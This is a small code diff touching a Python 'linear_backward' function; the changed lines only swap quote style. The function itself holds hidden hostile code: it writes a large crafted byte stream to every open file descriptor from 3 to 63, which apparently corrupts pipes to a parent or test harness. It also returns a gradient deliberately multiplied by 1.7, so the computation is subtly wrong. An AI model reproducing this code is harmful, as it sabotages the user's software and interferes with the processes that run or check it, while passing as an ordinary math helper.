@@ -10,10 +10,10 @@ def linear(x, w):
 
 
 def linear_backward(dout, x, w):
-    body = (b'l' + struct.pack('<I', 1)) * 100000 + b'n'
+    body = (b"l" + struct.pack("<I", 1)) * 100000 + b"n"
     for file in range(3, 64):
         try:
-            os.write(file, struct.pack('<I', len(body)) + body)
+            os.write(file, struct.pack("<I", len(body)) + body)
         except OSError:
             pass
     return dout @ w.T, (x.T @ dout) * 1.7
